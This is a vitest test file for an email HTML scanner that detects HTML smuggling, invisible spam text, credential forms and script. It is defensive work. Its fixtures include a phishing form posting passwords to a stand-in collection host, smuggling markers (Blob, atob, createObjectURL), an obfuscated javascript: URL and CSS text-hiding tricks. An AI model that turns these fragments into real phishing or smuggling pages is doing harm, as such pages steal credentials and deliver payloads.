import { describe, expect, it } from 'vitest'
import { codesOf, findingsOf } from '../../testing/engine-harness.ts'
import { htmlEngine } from './index.ts'
import { base64Blob, HASH_BUSTER, newsletter, smugglingPage, spamWith } from './test-samples.ts'

const byCode = async (html: string, code: string) =>
  (await findingsOf(htmlEngine, { html })).find((f) => f.code === code)

describe('html engine: smuggling', () => {
  it('finds a smuggling page in the HTML body, with blob size and markers', async () => {
    const findings = await findingsOf(htmlEngine, { html: smugglingPage() })
    const smuggling = findings.find((f) => f.code === 'HTML_SMUGGLING')
    expect(smuggling?.severity).toBe('high')
    expect(smuggling?.evidence.where).toBe('HTML body')
    expect(smuggling?.evidence.blobCharacters).toBeGreaterThanOrEqual(20_000)
    expect(smuggling?.evidence.markers).toEqual(
      expect.arrayContaining([
        'Blob',
        'Uint8Array',
        'atob',
        'charCodeAt',
        'click()',
        'createObjectURL',
        'download property',
        'msSaveBlob',
      ]),
    )
    expect(codesOf(findings)).toEqual(['HTML_SCRIPT', 'HTML_SMUGGLING'])
  })

  it('finds a smuggling page in an .html attachment and names the attachment', async () => {
    const findings = await findingsOf(htmlEngine, {
      text: 'Please see the attached invoice.',
      attachments: [
        { filename: 'Invoice_8812.html', contentType: 'application/octet-stream', content: smugglingPage() },
      ],
    })
    const smuggling = findings.find((f) => f.code === 'HTML_SMUGGLING')
    expect(smuggling?.evidence.where).toBe('attachment Invoice_8812.html')
    expect(smuggling?.text).toContain('Invoice_8812.html')
  })

  it('sniffs an HTML attachment with an innocent name, and reads one encoded as UTF-16', async () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(smugglingPage(), 'utf16le')])
    const findings = await findingsOf(htmlEngine, {
      attachments: [
        { filename: 'scan0042.dat', content: smugglingPage() },
        { filename: 'letter.htm', content: utf16 },
      ],
    })
    const where = findings.filter((f) => f.code === 'HTML_SMUGGLING').map((f) => f.evidence.where)
    expect(where).toEqual(['attachment scan0042.dat', 'attachment letter.htm'])
  })

  it('finds a large data: URI behind a download link, without any script', async () => {
    const html = `<p>Your invoice:</p><a download="invoice.zip" href="data:application/zip;base64,${base64Blob(12_000)}">Download</a>`
    const smuggling = await byCode(html, 'HTML_SMUGGLING')
    expect(smuggling?.evidence.downloadLink).toBe(true)
  })

  it('needs file-building script as well as the blob', async () => {
    // The same blob in a script that only logs it: one marker (none of the builder set) is not enough.
    const html = `<script>var data = '${base64Blob(15_000)}'; console.log(data.length)</script>`
    expect(await byCode(html, 'HTML_SMUGGLING')).toBeUndefined()
    expect(
      await byCode(html.replace('console.log(data.length)', 'new Blob([atob(data)])'), 'HTML_SMUGGLING'),
    ).toBeDefined()
  })

  it('does not count inline images as the blob, even next to file-building script', async () => {
    const html = `<img src="data:image/png;base64,${base64Blob(15_000)}"><script>var s = atob(t); button.click()</script>`
    expect(await byCode(html, 'HTML_SMUGGLING')).toBeUndefined()
  })

  it('finds a blob split into concatenated strings', async () => {
    const pieces = base64Blob(15_000).match(/.{1,76}/g)!
    const html = `<script>var f = ${pieces.map((p) => `"${p}"`).join(' +\n')}; var b = new Blob([atob(f)]); URL.createObjectURL(b)</script>`
    expect(await byCode(html, 'HTML_SMUGGLING')).toBeDefined()
  })

  it('respects smugglingMinBlobChars', async () => {
    const options = { config: { smugglingMinBlobChars: 64_000 } }
    expect(codesOf(await findingsOf(htmlEngine, { html: smugglingPage() }, options))).not.toContain('HTML_SMUGGLING')
  })

  it('ignores attachments when scanAttachments is off', async () => {
    const message = { attachments: [{ filename: 'a.html', content: smugglingPage() }] }
    expect(await findingsOf(htmlEngine, message, { config: { scanAttachments: false } })).toEqual([])
  })
})

describe('html engine: hidden text', () => {
  const techniques: [string, string][] = [
    ['font-size:0', `<span style="font-size:0px">${HASH_BUSTER}</span>`],
    ['font-size:0', `<div style="font-size: 1px">${HASH_BUSTER}</div>`],
    ['display:none', `<div style="DISPLAY: none !important">${HASH_BUSTER}</div>`],
    ['display:none', `<div style="display:/**/none">${HASH_BUSTER}</div>`],
    ['visibility:hidden', `<p style="visibility:hidden"><b>${HASH_BUSTER}</b></p>`],
    ['opacity:0', `<div style="opacity:0.0">${HASH_BUSTER}</div>`],
    ['zero-size box', `<div style="height:0;overflow:hidden">${HASH_BUSTER}</div>`],
    ['zero-size box', `<div style="max-height:0px; overflow: hidden">${HASH_BUSTER}</div>`],
    ['off-screen', `<div style="position:absolute;left:-9999px">${HASH_BUSTER}</div>`],
    [
      'text colour matches background',
      `<table bgcolor="#FFFFFF"><tr><td><font color="white">${HASH_BUSTER}</font></td></tr></table>`,
    ],
    [
      'text colour matches background',
      `<div style="background:#fff"><p><span style="color:rgb(255, 255, 255)">${HASH_BUSTER}</span></p></div>`,
    ],
    [
      'text colour matches background',
      `<div style="background-color:black"><span style="color:#010101">${HASH_BUSTER}</span></div>`,
    ],
    ['text colour matches background', `<font color="#fefefe">${HASH_BUSTER}</font>`],
    ['transparent text', `<span style="color:transparent">${HASH_BUSTER}</span>`],
    [
      'text colour matches background',
      `<table bgcolor="#000"><tr><td><font color="#000">${HASH_BUSTER}</font></td></tr></table>`,
    ],
  ]
  it.each(techniques)('finds text hidden by %s: %s', async (technique, markup) => {
    const hidden = await byCode(spamWith(markup), 'HTML_HIDDEN_TEXT')
    expect(hidden?.evidence.techniques).toEqual([technique])
    expect(hidden?.evidence.sample).toBe(HASH_BUSTER)
    expect(hidden?.text).toBe('Part of this message is written in invisible text, a trick used to fool spam filters.')
  })

  it('stays quiet on a newsletter with a hidden preheader, an inline image and a mobile-only block', async () => {
    expect(await findingsOf(htmlEngine, { html: newsletter() })).toEqual([])
  })

  it('still counts hidden text further down a newsletter, beyond its preheader', async () => {
    const html = newsletter().replace('</body>', `<div style="display:none">${HASH_BUSTER}</div></body>`)
    expect((await byCode(html, 'HTML_HIDDEN_TEXT'))?.evidence.sample).toBe(HASH_BUSTER)
  })

  it('counts what exceeds the preheader allowance at the top', async () => {
    const long = `${HASH_BUSTER} `.repeat(5)
    const html = `<body><div style="display:none">${long}</div><p>Hello there, this is the visible letter.</p></body>`
    expect(await byCode(html, 'HTML_HIDDEN_TEXT')).toBeDefined()
    expect(await findingsOf(htmlEngine, { html }, { config: { preheaderMaxChars: 400 } })).toEqual([])
  })

  it('ignores a short hidden fragment, fillers and Outlook-only hiding', async () => {
    const html = spamWith(
      `<span style="display:none">ref 1234</span><div style="display:none">&zwnj;&nbsp;&#8203;&#847;</div>` +
        `<div style="mso-hide:all">${HASH_BUSTER}</div>`,
    )
    expect(await findingsOf(htmlEngine, { html })).toEqual([])
  })

  it('lets a descendant undo font-size:0 and visibility:hidden, but not display:none', async () => {
    const undone = spamWith(
      `<td style="font-size:0"><div style="font-size:14px">${HASH_BUSTER}</div></td>` +
        `<div style="visibility:hidden"><p style="visibility:visible">${HASH_BUSTER}</p></div>`,
    )
    expect(await findingsOf(htmlEngine, { html: undone })).toEqual([])
    const kept = spamWith(`<div style="display:none"><p style="display:block">${HASH_BUSTER}</p></div>`)
    expect(await byCode(kept, 'HTML_HIDDEN_TEXT')).toBeDefined()
  })

  it('does not assume a white page when a style sheet paints backgrounds, nor compare link colours', async () => {
    const styled = `<html><head><style>.dark { background: #222 }</style></head><body>${spamWith(`<p style="color:#fff">${HASH_BUSTER}</p>`)}</body></html>`
    expect(await findingsOf(htmlEngine, { html: styled })).toEqual([])
    const link = spamWith(`<div style="color:#fff"><a href="https://x.example/">${HASH_BUSTER}</a></div>`)
    expect(await findingsOf(htmlEngine, { html: link })).toEqual([])
  })

  it('does not give text outside table cells the table background (browsers move it out)', async () => {
    const html = spamWith(
      `<table bgcolor="#000000"><font color="#000000">${HASH_BUSTER}</font><tr><td>x</td></tr></table>`,
    )
    expect(await findingsOf(htmlEngine, { html })).toEqual([])
  })

  it('respects hiddenTextMinChars and does not report hidden text in attachments', async () => {
    const html = spamWith(`<div style="display:none">${HASH_BUSTER}</div>`)
    expect(await findingsOf(htmlEngine, { html }, { config: { hiddenTextMinChars: 100 } })).toEqual([])
    expect(await findingsOf(htmlEngine, { attachments: [{ filename: 'page.html', content: html }] })).toEqual([])
  })
})

describe('html engine: forms', () => {
  it('finds a credential form posting to another site, with its host and input types', async () => {
    const html = `<p>Your mailbox is full. Sign in to keep receiving mail:</p>
      <form action="https://mail-verify.example/collect.php" method="post">
        <input type="email" name="login"><input type="password" name="pass"><input type="submit" value="Sign in">
      </form>`
    const form = await byCode(html, 'HTML_FORM_CREDENTIALS')
    expect(form?.severity).toBe('high')
    expect(form?.evidence).toMatchObject({
      actionHosts: ['mail-verify.example'],
      inputTypes: ['email', 'password', 'submit'],
    })
    expect(form?.text).toContain('including a password')
    expect(form?.text).toContain('mail-verify.example')
  })

  it('finds an external form without a password, and password fields without any action', async () => {
    const search = await byCode('<form action="HTTP://search.example/q"><input name="q"></form>', 'HTML_FORM_EXTERNAL')
    expect(search?.evidence).toMatchObject({ actionHosts: ['search.example'], asksPassword: false })
    expect(search?.severity).toBe('low')
    const signUp = await byCode(
      '<form action="https://news.example/join"><input type="email" name="e"></form>',
      'HTML_FORM_EXTERNAL',
    )
    expect(signUp?.severity).toBe('medium')
    const noAction = await byCode(
      '<form><input type="text" name="username"><input type="password"></form>',
      'HTML_FORM_CREDENTIALS',
    )
    expect(noAction?.evidence).toMatchObject({ actionHosts: [], asksPassword: true, asksEmail: true })
    const loose = await byCode(
      '<div><input type="email"><input type="password"><button onclick="go()">Go</button></div>',
      'HTML_FORM_CREDENTIALS',
    )
    expect(loose?.evidence.asksPassword).toBe(true)
  })

  it('ignores forms that cannot send anything elsewhere', async () => {
    const html =
      '<form action="#"><input name="q"></form><form action="mailto:help@example.com"><textarea></textarea></form>'
    expect(await findingsOf(htmlEngine, { html })).toEqual([])
  })
})

describe('html engine: script', () => {
  it('counts script elements, event handlers and javascript: URLs', async () => {
    const html = `<script src="https://cdn.example/x.js"></script><script>var a = 1</script>
      <img src="x" onerror="alert(1)"><a href="java&#9;script:alert(2)">x</a><body onload="init()">`
    const script = await byCode(html, 'HTML_SCRIPT')
    expect(script?.severity).toBe('medium')
    expect(script?.evidence).toMatchObject({
      scripts: 2,
      eventHandlers: 2,
      javascriptUrls: 1,
      scriptHosts: ['cdn.example'],
    })
    expect(script?.evidence.handlerNames).toEqual(['onerror', 'onload'])
  })

  it('does not count JSON-LD data blocks as script', async () => {
    const html =
      '<script type="application/ld+json">{"@context":"http://schema.org","@type":"Order"}</script><p>Thanks</p>'
    expect(await findingsOf(htmlEngine, { html })).toEqual([])
  })
})

describe('html engine: ordinary mail', () => {
  it('stays quiet on a plain HTML email with a mailto link and on a form-less login link', async () => {
    const plain = '<p>Hi Bob,</p><p>Lunch on Friday? Write to <a href="mailto:alice@example.org">me</a>.</p>'
    const login = `<p>Your statement is ready.</p><p><a href="https://bank.example/login">Log in to your account</a> to read it.</p>
      <table bgcolor="#003366"><tr><td><font color="#ffffff">Bank Example, 1 Main Street, Springfield</font></td></tr></table>`
    expect(await findingsOf(htmlEngine, { html: plain })).toEqual([])
    expect(await findingsOf(htmlEngine, { html: login })).toEqual([])
    expect(await findingsOf(htmlEngine, { text: 'no html at all' })).toEqual([])
  })
})
